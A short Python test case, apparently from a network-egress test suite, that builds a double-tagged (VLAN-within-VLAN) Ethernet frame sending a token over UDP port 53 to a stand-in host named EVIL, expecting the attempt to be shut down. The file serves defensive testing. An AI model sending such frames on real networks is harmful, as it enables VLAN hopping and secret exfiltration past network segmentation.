"""
how: in a VLAN within a VLAN
expect: shut
"""

from frames import frame, gateway, ipv4, udp_part, vlan
from land import EVIL


def attempt(token):
    return frame(gateway(), 0x88A8, vlan(1, 0x8100, vlan(10, 0x0800, ipv4(EVIL, 17, udp_part(EVIL, 53, token)))))
